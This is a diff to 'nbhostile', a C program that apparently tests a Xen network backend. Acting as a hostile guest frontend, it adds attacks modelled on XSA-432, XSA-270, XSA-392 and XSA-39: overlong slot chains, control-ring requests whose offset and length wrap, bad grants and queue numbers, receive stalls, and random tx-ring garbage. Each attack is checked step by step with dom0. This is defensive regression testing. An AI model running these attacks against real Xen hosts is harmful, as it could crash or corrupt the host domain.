@@ -30,12 +30,42 @@
  *   gso0      a GSO extra with size 0
  *   zerofrag  a first slot announcing 60 bytes, then 17 fragments of size 0
  *   tinyhdr   a 200-byte packet whose first 60 bytes come in 1-byte slots
+ *   tiny18    a 128-byte patterned frame (ethertype 0x88b6) in 18 slots:
+ *             legal, must arrive intact (XSA-432's shape, within limits)
+ *   tiny19    the same in the head plus 18 slots (XSA-432): dropped, or
+ *             delivered intact
+ * Attacks that dom0 drives step by step: the program writes the step's
+ * name to the guest's xenstore data/nbh-step and goes on when dom0 writes
+ * the same name to data/nbh-go (after 300 s without it, too); at the end
+ * it writes data/nbh-step = done:
+ *   ctrl      a control ring (XSA-270): a valid mapping size and mapping,
+ *             then SET_HASH_MAPPING with off + len wrapping 32 bits, len
+ *             beyond a page, queue numbers >= the number of queues, a bad
+ *             grant, SET_HASH_MAPPING_SIZE too large, unknown types; then
+ *             valid requests again.  RESULT lists name=status[/data] of
+ *             each ("-": no response, "id": id or type not echoed), then
+ *             the probe.  Steps "connected" before the requests and
+ *             "probed" after the probe (dom0 reads the vif's counters
+ *             while it is connected: they go with the connection).
+ *   rxstall0  connect, post no receive buffer (XSA-392), step "stalling",
+ *   rxstall1  or exactly one, never another; RESULT rx=<responses seen>
+ *   mcast     request-multicast-control=1 and 32 receive buffers kept
+ *             posted; an MCAST_ADD extra for 03:99:00:00:00:01, step
+ *             "joined" (dom0 sends to it and to 03:99:00:00:00:02), then
+ *             MCAST_DEL and step "left" (dom0 sends again); RESULT add=,
+ *             del= (tx statuses), g1= g2= (frames of each group seen
+ *             while joined), g1del= g2del= (after the DEL), bcast=
+ *   garbage SEED  random bytes in every tx request (half of them with a
+ *             valid data grant), req_prod random within the ring or
+ *             beyond it; then up to 4 probes, step "judge" (dom0 looks at
+ *             the vif's carrier); RESULT prod= answered= probe= tries=
  * Exit status: 0 after a report, 2 if it could not connect.
  */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
 #include <stdarg.h>
+#include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -65,9 +95,14 @@ typedef uint16_t domid_t;	/* the UAPI headers expect it from the includer */
 
 #define PAGE		4096
 #define NDATA		24		/* data pages, one per slot at most */
-#define NPAGES		(2 + NDATA)	/* tx ring, rx ring, data */
+#define NRXBUF		32		/* receive buffers, a page each */
+#define PG_CTRL		(2 + NDATA)	/* control ring */
+#define PG_MAP		(PG_CTRL + 1)	/* hash mapping table */
+#define PG_RX		(PG_MAP + 1)	/* receive buffers */
+#define NPAGES		(PG_RX + NRXBUF)
 #define PROBE_LEN	60
 #define MAX_SLOTS	32
+#define STEP_SECS	300
 
 static char fe[64];		/* device/vif/N */
 static char be[256];		/* the backend's directory */
@@ -75,8 +110,15 @@ static uint8_t *mem;
 static uint32_t refs[NPAGES];
 static netif_tx_front_ring_t tx;
 static netif_rx_front_ring_t rx;
+static xen_netif_ctrl_front_ring_t ctrl;
 static int evfd;
-static unsigned int port;
+static unsigned int port, ctrl_port;
+static int want_ctrl, want_mcast;	/* connect with a control ring, filter */
+static uint16_t rx_buf[__CONST_RING_SIZE(netif_rx, PAGE)];	/* buffer of each rx slot */
+static int rx_repost;			/* give consumed buffers back */
+static unsigned long rx_seen, rx_g1, rx_g2, rx_bcast;
+static const uint8_t group1[6] = { 0x03, 0x99, 0, 0, 0, 0x01 };
+static const uint8_t group2[6] = { 0x03, 0x99, 0, 0, 0, 0x02 };
 
 static void die(const char *what)
 {
@@ -211,13 +253,19 @@ static void setup(void)
 	if (r < 0)
 		die("IOCTL_EVTCHN_BIND_UNBOUND_PORT");
 	port = r;
+	r = ioctl(evfd, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &bind);
+	if (r < 0)
+		die("IOCTL_EVTCHN_BIND_UNBOUND_PORT (control)");
+	ctrl_port = r;
 
 	memset(mem, 0, NPAGES * PAGE);
 	SHARED_RING_INIT((netif_tx_sring_t *)mem);
 	FRONT_RING_INIT(&tx, (netif_tx_sring_t *)mem, PAGE);
 	SHARED_RING_INIT((netif_rx_sring_t *)(mem + PAGE));
 	FRONT_RING_INIT(&rx, (netif_rx_sring_t *)(mem + PAGE), PAGE);
-	for (i = 2; i < NPAGES; i++)
+	SHARED_RING_INIT((xen_netif_ctrl_sring_t *)(mem + PG_CTRL * PAGE));
+	FRONT_RING_INIT(&ctrl, (xen_netif_ctrl_sring_t *)(mem + PG_CTRL * PAGE), PAGE);
+	for (i = 2; i < PG_CTRL; i++)
 		memset(mem + i * PAGE, 0xa5, PAGE);
 }
 
@@ -227,6 +275,7 @@ static void connect_backend(void)
 		"event-channel-tx", "event-channel-rx", "multi-queue-num-queues",
 		"queue-0", "queue-1", "queue-2", "queue-3", "ctrl-ring-ref",
 		"event-channel-ctrl", "feature-gso-tcpv6", "feature-ipv6-csum-offload",
+		"request-multicast-control",
 	};
 	char path[96];
 	unsigned int i;
@@ -261,6 +310,12 @@ static void connect_backend(void)
 	    xs_writef(fe, "feature-sg", "1") ||
 	    xs_writef(fe, "feature-gso-tcpv4", "1"))
 		die("write ring details");
+	if (want_ctrl &&
+	    (xs_writef(fe, "ctrl-ring-ref", "%u", refs[PG_CTRL]) ||
+	     xs_writef(fe, "event-channel-ctrl", "%u", ctrl_port)))
+		die("write control ring details");
+	if (want_mcast && xs_writef(fe, "request-multicast-control", "1"))
+		die("write request-multicast-control");
 	fe_state(XenbusStateConnected);
 	if (wait_be(XenbusStateConnected, XenbusStateConnected, 10))
 		die("backend never reached Connected");
@@ -322,6 +377,34 @@ static void frame(unsigned int pg, unsigned int len)
 	p[12] = 0x88;
 	p[13] = 0xb5;
 	memset(p + 14, 0x42, len > 14 ? len - 14 : 0);
+}
+
+/* pattern: a broadcast of LEN bytes, ethertype 0x88b6, that dom0 checks. */
+static void pattern(unsigned int pg, unsigned int len)
+{
+	uint8_t *p = mem + (2 + pg) * PAGE;
+	unsigned int i;
+
+	memset(p, 0xff, 6);
+	memcpy(p + 6, "\x00\x16\x3e\x99\x99\x99", 6);
+	p[12] = 0x88;
+	p[13] = 0xb6;
+	for (i = 0; i + 14 < len; i++)
+		p[14 + i] = 7 * i + 1;
+}
+
+/*
+ * A 128-byte patterned frame in N data slots: the first holds what the
+ * N - 1 following 6-byte slots (in order, on the same page) leave.
+ */
+static void tiny(unsigned int n)
+{
+	unsigned int first = 128 - 6 * (n - 1), i;
+
+	pattern(0, 128);
+	slot(0, 0, 128, NETTXF_more_data);
+	for (i = 1; i < n; i++)
+		slot(0, first + 6 * (i - 1), 6, i + 1 < n ? NETTXF_more_data : 0);
 }
 
 /* A packet of N slots: first announces TOTAL, the others each carry EACH. */
@@ -426,10 +509,353 @@ static void attack(const char *a)
 		for (i = 1; i <= 16; i++)
 			slot(0, i, 1, NETTXF_more_data);
 		slot(0, 17, 183, 0);
+	} else if (!strcmp(a, "tiny18")) {
+		tiny(18);
+	} else if (!strcmp(a, "tiny19")) {
+		tiny(19);
 	} else {
 		fprintf(stderr, "nbhostile: unknown attack %s\n", a);
 		exit(2);
 	}
+}
+
+/* ---- receive ring ---- */
+
+/* rx_post: N more receive buffers (buffer i is page PG_RX + i % NRXBUF). */
+static void rx_post(unsigned int n)
+{
+	unsigned int i;
+
+	for (i = 0; i < n; i++) {
+		netif_rx_request_t *r = RING_GET_REQUEST(&rx, rx.req_prod_pvt);
+		uint16_t b = rx.req_prod_pvt % NRXBUF;
+
+		r->id = b;
+		r->gref = refs[PG_RX + b];
+		rx_buf[rx.req_prod_pvt % RING_SIZE(&rx)] = b;
+		rx.req_prod_pvt++;
+	}
+	RING_PUSH_REQUESTS(&rx);
+	kick();
+}
+
+/*
+ * rx_drain: count the frames the backend delivered by destination, and
+ * give each buffer back if rx_repost (responses fill the slots of the
+ * requests they answer, so the slot says whose buffer it was).
+ */
+static void rx_drain(void)
+{
+	static int in_extra, in_frame;
+	unsigned int n = 0;
+
+	while (rx.rsp_cons != rx.sring->rsp_prod) {
+		netif_rx_response_t *r;
+		uint16_t b;
+
+		xen_rmb();
+		r = RING_GET_RESPONSE(&rx, rx.rsp_cons);
+		b = rx_buf[rx.rsp_cons % RING_SIZE(&rx)];
+		rx.rsp_cons++;
+		n++;
+		rx_seen++;
+		if (in_extra) {
+			in_extra = ((struct netif_extra_info *)r)->flags &
+				   XEN_NETIF_EXTRA_FLAG_MORE;
+			continue;
+		}
+		if (!in_frame && r->status >= 6 && r->offset < PAGE - 6) {
+			const uint8_t *d = mem + (PG_RX + b) * PAGE + r->offset;
+
+			if (!memcmp(d, group1, 6))
+				rx_g1++;
+			else if (!memcmp(d, group2, 6))
+				rx_g2++;
+			else if (!memcmp(d, "\xff\xff\xff\xff\xff\xff", 6))
+				rx_bcast++;
+		}
+		in_extra = r->flags & NETRXF_extra_info;
+		in_frame = !!(r->flags & NETRXF_more_data);
+	}
+	if (n && rx_repost)
+		rx_post(n);
+}
+
+/* ---- steps that dom0 drives ---- */
+
+/*
+ * step: tell dom0 that NAME is reached (data/nbh-step) and wait until it
+ * writes NAME to data/nbh-go, keeping the receive ring served.
+ */
+static void step(const char *name)
+{
+	char go[64];
+	int i;
+
+	if (xs_write("data/nbh-step", name))
+		die("write data/nbh-step");
+	for (i = 0; i < STEP_SECS * 5; i++) {
+		rx_drain();
+		xs_read("data/nbh-go", go, sizeof(go));
+		if (!strcmp(go, name))
+			return;
+		usleep(200000);
+	}
+	fprintf(stderr, "nbhostile: no go for step %s\n", name);
+}
+
+/* linger: serve the receive ring for SECS seconds. */
+static void linger(int secs)
+{
+	int i;
+
+	for (i = 0; i < secs * 10; i++) {
+		rx_drain();
+		usleep(100000);
+	}
+}
+
+/* ---- control ring (XSA-270) ---- */
+
+/* ctrl_req: one request; its status as text ("-": none), *data its data. */
+static void ctrl_req(uint16_t type, uint32_t d0, uint32_t d1, uint32_t d2,
+		     char *out, size_t len, uint32_t *data)
+{
+	struct xen_netif_ctrl_request *q = RING_GET_REQUEST(&ctrl, ctrl.req_prod_pvt);
+	struct ioctl_evtchn_notify n = { .port = ctrl_port };
+	static uint16_t id = 0x100;
+	int t;
+
+	q->id = ++id;
+	q->type = type;
+	q->data[0] = d0;
+	q->data[1] = d1;
+	q->data[2] = d2;
+	ctrl.req_prod_pvt++;
+	RING_PUSH_REQUESTS(&ctrl);
+	if (ioctl(evfd, IOCTL_EVTCHN_NOTIFY, &n))
+		die("IOCTL_EVTCHN_NOTIFY (control)");
+	snprintf(out, len, "-");
+	for (t = 0; t < 60; t++) {
+		if (ctrl.rsp_cons != ctrl.sring->rsp_prod) {
+			struct xen_netif_ctrl_response *r;
+
+			xen_rmb();
+			r = RING_GET_RESPONSE(&ctrl, ctrl.rsp_cons);
+			ctrl.rsp_cons++;
+			if (r->id != id || r->type != type)
+				snprintf(out, len, "id");
+			else
+				snprintf(out, len, "%u", r->status);
+			if (data)
+				*data = r->data;
+			return;
+		}
+		usleep(50000);
+	}
+}
+
+static void ctrl_attack(char *res, size_t len)
+{
+	uint32_t *map = (uint32_t *)(mem + PG_MAP * PAGE);
+	uint32_t max = 0, ref = refs[PG_MAP];
+	const uint32_t S = XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING;
+	char st[16];
+	size_t o = 0;
+
+#define CTRL_REQ(name, type, d0, d1, d2, data)				\
+	do {								\
+		ctrl_req(type, d0, d1, d2, st, sizeof(st), data);	\
+		o += snprintf(res + o, len - o, " %s=%s", name, st);	\
+	} while (0)
+
+	memset(map, 0, PAGE);
+	CTRL_REQ("getsize", XEN_NETIF_CTRL_TYPE_GET_HASH_MAPPING_SIZE, 0, 0, 0, &max);
+	o += snprintf(res + o, len - o, "/%u", max);
+	if (!max)
+		max = 8;
+	CTRL_REQ("setsize_big", XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, max + 1, 0, 0, NULL);
+	CTRL_REQ("setsize_huge", XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, 0xffffffff, 0, 0, NULL);
+	CTRL_REQ("setsize", XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, max, 0, 0, NULL);
+	CTRL_REQ("map", S, ref, max, 0, NULL);
+	/* off + len wraps to a small number. */
+	CTRL_REQ("map_wrap", S, ref, 16, 0xfffffff8, NULL);
+	CTRL_REQ("map_wrap2", S, ref, 0xffffffff, 1, NULL);
+	CTRL_REQ("map_end", S, ref, 2, max - 1, NULL);
+	/* More entries than a page holds. */
+	CTRL_REQ("map_page", S, ref, PAGE / 4 + 1, 0, NULL);
+	/* A queue number at or beyond the number of queues (1). */
+	map[3] = 1;
+	CTRL_REQ("map_queue", S, ref, 4, 0, NULL);
+	map[3] = 0xffffffff;
+	CTRL_REQ("map_queue_big", S, ref, 4, 0, NULL);
+	map[3] = 0;
+	CTRL_REQ("map_gref", S, 0xfffffff0, 4, 0, NULL);
+	CTRL_REQ("type0", XEN_NETIF_CTRL_TYPE_INVALID, 0, 0, 0, NULL);
+	CTRL_REQ("type99", 99, 1, 2, 3, NULL);
+	/* The ring still serves, and a valid mapping still goes in. */
+	CTRL_REQ("map_after", S, ref, 4, max - 4, NULL);
+	CTRL_REQ("getsize_after", XEN_NETIF_CTRL_TYPE_GET_HASH_MAPPING_SIZE, 0, 0, 0, NULL);
+#undef CTRL_REQ
+	/* Where the ring stands, should a response be missing. */
+	snprintf(res + o, len - o, " ring=%u/%u/%u/%u", ctrl.sring->req_prod,
+		 ctrl.sring->req_event, ctrl.sring->rsp_prod, ctrl.sring->rsp_event);
+}
+
+/* ---- multicast control ---- */
+
+/* mcast_req: an MCAST_ADD or _DEL extra on a dummy request; its status. */
+static int mcast_req(uint8_t type, const uint8_t *addr)
+{
+	netif_tx_request_t *r;
+	struct netif_extra_info *e;
+	RING_IDX from = tx.req_prod_pvt;
+	char st[16];
+
+	slot(0, 0, 0, NETTXF_extra_info);
+	r = RING_GET_REQUEST(&tx, tx.req_prod_pvt);
+	e = (void *)r;
+	memset(r, 0, sizeof(*r));
+	e->type = type;
+	memcpy(e->u.mcast.addr, addr, 6);
+	tx.req_prod_pvt++;
+	RING_PUSH_REQUESTS(&tx);
+	kick();
+	collect(from, from + 1, 3, st, sizeof(st));
+	return st[0] == '-' ? 999 : atoi(st);
+}
+
+/* ---- garbage on the tx ring (XSA-39) ---- */
+
+static RING_IDX garbage(unsigned int seed, unsigned int *answered)
+{
+	unsigned int i, j, size = RING_SIZE(&tx);
+	RING_IDX prod, seen;
+
+	srand(seed);
+	for (i = 2; i < 2 + NDATA; i++)
+		for (j = 0; j < PAGE; j++)
+			mem[i * PAGE + j] = rand();
+	for (i = 0; i < size; i++) {
+		netif_tx_request_t *r = &tx.sring->ring[i].req;
+		uint8_t *b = (uint8_t *)r;
+
+		for (j = 0; j < sizeof(*r); j++)
+			b[j] = rand();
+		/*
+		 * Half the slots name a real grant, so copies happen; half
+		 * of those also stay within the page and have no extras,
+		 * so that packets get past the first checks.
+		 */
+		if (rand() & 1)
+			continue;
+		r->gref = refs[2 + rand() % NDATA];
+		if (rand() & 1)
+			continue;
+		r->offset = rand() % (PAGE / 2);
+		r->size = rand() % (PAGE / 2);
+		r->flags &= NETTXF_more_data | NETTXF_csum_blank | NETTXF_data_validated;
+	}
+	prod = rand() % 3 ? 1 + rand() % size : size + 1 + rand();
+	xen_wmb();
+	tx.sring->req_prod = prod;
+	kick();
+	/* Until the responses stop coming (1 s without one), 10 s at most. */
+	seen = tx.sring->rsp_prod;
+	for (i = j = 0; i < 100 && j < 10; i++) {
+		usleep(100000);
+		j = tx.sring->rsp_prod == seen ? j + 1 : 0;
+		seen = tx.sring->rsp_prod;
+	}
+	*answered = seen;
+	tx.req_prod_pvt = prod;
+	return prod;
+}
+
+/* probe_again: a probe after garbage; its status, or "-". */
+static void probe_again(char *out, size_t len)
+{
+	RING_IDX from = tx.req_prod_pvt;
+
+	tx.rsp_cons = tx.sring->rsp_prod;
+	probe();
+	RING_PUSH_REQUESTS(&tx);
+	kick();
+	collect(from, from + 1, 2, out, len);
+}
+
+/* The attacks dom0 drives step by step; true if ATTACK is one. */
+static int stepped(int argc, char **argv)
+{
+	const char *a = argv[2];
+	char res[1024] = "", pr[16] = "-";
+	RING_IDX from;
+	size_t o = 0;
+
+	if (!strcmp(a, "ctrl")) {
+		want_ctrl = 1;
+		connect_backend();
+		step("connected");
+		ctrl_attack(res, sizeof(res));
+		from = tx.req_prod_pvt;
+		probe();
+		RING_PUSH_REQUESTS(&tx);
+		kick();
+		collect(from, from + 1, 3, pr, sizeof(pr));
+		step("probed");
+		printf("RESULT attack=ctrl%s probe=%s\n", res,
+		       pr[0] == '-' ? "none" : atoi(pr) == NETIF_RSP_OKAY ? "okay" : "error");
+	} else if (!strcmp(a, "rxstall0") || !strcmp(a, "rxstall1")) {
+		connect_backend();
+		if (a[7] == '1')
+			rx_post(1);
+		step("stalling");
+		printf("RESULT attack=%s rx=%lu\n", a, rx_seen);
+	} else if (!strcmp(a, "mcast")) {
+		int add, del;
+		unsigned long g1, g2;
+
+		want_mcast = 1;
+		rx_repost = 1;
+		connect_backend();
+		rx_post(NRXBUF);
+		add = mcast_req(XEN_NETIF_EXTRA_TYPE_MCAST_ADD, group1);
+		step("joined");
+		linger(3);
+		g1 = rx_g1;
+		g2 = rx_g2;
+		del = mcast_req(XEN_NETIF_EXTRA_TYPE_MCAST_DEL, group1);
+		step("left");
+		linger(3);
+		printf("RESULT attack=mcast add=%d del=%d g1=%lu g2=%lu g1del=%lu g2del=%lu bcast=%lu\n",
+		       add, del, g1, g2, rx_g1 - g1, rx_g2 - g2, rx_bcast);
+	} else if (!strcmp(a, "garbage") && argc == 4) {
+		unsigned int answered, tries;
+		RING_IDX prod;
+
+		rx_repost = 1;
+		connect_backend();
+		/* Room for what the bridge floods: no receive stall. */
+		rx_post(NRXBUF);
+		prod = garbage(strtoul(argv[3], NULL, 0), &answered);
+		for (tries = 1; tries <= 4; tries++) {
+			probe_again(pr, sizeof(pr));
+			if (pr[0] != '-' && atoi(pr) == NETIF_RSP_OKAY)
+				break;
+		}
+		o += snprintf(res + o, sizeof(res) - o, " seed=%s prod=%u answered=%u probe=%s tries=%u",
+			      argv[3], prod, answered,
+			      pr[0] == '-' ? "none" : atoi(pr) == NETIF_RSP_OKAY ? "okay" : "error",
+			      tries > 4 ? 4 : tries);
+		step("judge");
+		printf("RESULT attack=garbage%s\n", res);
+	} else {
+		return 0;
+	}
+	fflush(stdout);
+	disconnect_backend();
+	xs_write("data/nbh-step", "done");
+	return 1;
 }
 
 int main(int argc, char **argv)
@@ -438,12 +864,14 @@ int main(int argc, char **argv)
 	const char *verdict;
 	RING_IDX from;
 
-	if (argc != 3) {
-		fprintf(stderr, "usage: nbhostile DEVID ATTACK\n");
+	if (argc != 3 && argc != 4) {
+		fprintf(stderr, "usage: nbhostile DEVID ATTACK [SEED]\n");
 		return 2;
 	}
 	snprintf(fe, sizeof(fe), "device/vif/%s", argv[1]);
 	setup();
+	if (stepped(argc, argv))
+		return 0;
 	connect_backend();
 
 	if (!strcmp(argv[2], "far")) {
